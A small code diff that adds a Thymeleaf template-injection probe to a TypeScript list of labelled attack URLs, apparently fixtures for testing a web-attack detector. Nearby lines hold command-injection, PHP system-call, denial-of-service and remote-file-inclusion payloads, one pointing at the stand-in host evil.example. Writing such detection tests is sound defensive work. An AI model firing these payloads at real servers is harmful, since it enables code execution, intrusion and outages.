@@ -266,6 +266,7 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['generic-node-dos', '/api?x=while(true){}'],
   ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
   ['generic-template-math', '/p?name=${7*7}'],
+  ['generic-template-math', '/p?name=*{7*7}'], // Thymeleaf's selection expression
   ['generic-node-dos-allocation', "/api?x='a'.repeat(100000000)"],
   ['php-concatenated-name-call', "/p?x=('sys'.'tem')('id')"],
   ['rfi-unc-path', '/p?file=%5C%5Cevil.example%5Cshare%5Cx.php'],
